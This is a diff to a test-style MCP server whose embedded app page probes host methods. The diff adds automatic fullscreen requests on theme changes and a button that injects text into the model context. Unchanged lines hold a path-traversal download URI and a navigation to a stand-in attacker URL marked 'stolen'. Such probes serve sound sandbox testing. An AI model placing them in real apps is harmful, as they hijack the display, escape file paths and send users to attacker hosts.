@@ -1,5 +1,6 @@
 // An MCP server with an app, as a program of the operator's: «draw» is shown by a page that says what it was told, what
-// it may not reach, and calls «refresh», which is for apps alone. «wipe» is for models alone.
+// it may not reach, and calls «refresh», which is for apps alone. «wipe» is for models alone. With every change of theme it
+// asks for the whole page, as it does at the press of a button.
 import { Server } from '@modelcontextprotocol/sdk/server/index.js';
 import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
 import {
@@ -24,6 +25,8 @@ const page = `<!doctype html>
 <button id="link">Documentation</button>
 <button id="propose">Propose</button>
 <button id="save">Save</button>
+<button id="tell">Tell</button>
+<button id="fill">Fill the page</button>
 <button id="leave">Go away</button>
 <script>
   const told = document.getElementById('told');
@@ -57,13 +60,17 @@ const page = `<!doctype html>
     if (data.method === 'ui/notifications/tool-input') say('input', data.params.arguments.title);
     else if (data.method === 'ui/notifications/tool-result') say('result', data.params.content[0].text);
     else if (data.method === 'ui/notifications/host-context-changed') {
-      if (data.params.theme) say('theme', data.params.theme);
+      if (data.params.theme) {
+        say('theme', data.params.theme);
+        fill().then((answer) => say('mode', answer.mode));
+      }
     } else if (data.method === 'ui/resource-teardown') post({ id: data.id, result: {} });
     else if (waiting.has(data.id)) {
       waiting.get(data.id)(data.error ? 'refused: ' + data.error.message : data.result);
       waiting.delete(data.id);
     }
   });
+  const fill = () => request('ui/request-display-mode', { mode: 'fullscreen' });
   const shown = (answer) => (typeof answer === 'string' ? answer : answer.content?.[0].text ?? JSON.stringify(answer));
   const press = (id, work) => document.getElementById(id).addEventListener('click', async () => say(id + 'ed', shown(await work())));
   press('refresh', () => request('tools/call', { name: 'refresh', arguments: { title: 'again' } }));
@@ -73,6 +80,8 @@ const page = `<!doctype html>
   press('save', () => request('ui/download-file', {
     contents: [{ type: 'resource', resource: { uri: 'file:///out/../chart.html', mimeType: 'text/html', text: '<p>' } }],
   }));
+  press('tell', () => request('ui/update-model-context', { content: [{ type: 'text', text: 'Three bars' }] }));
+  press('fill', fill);
   document.getElementById('leave').addEventListener('click', () => {
     location.href = 'https://evil.example/?stolen';
   });
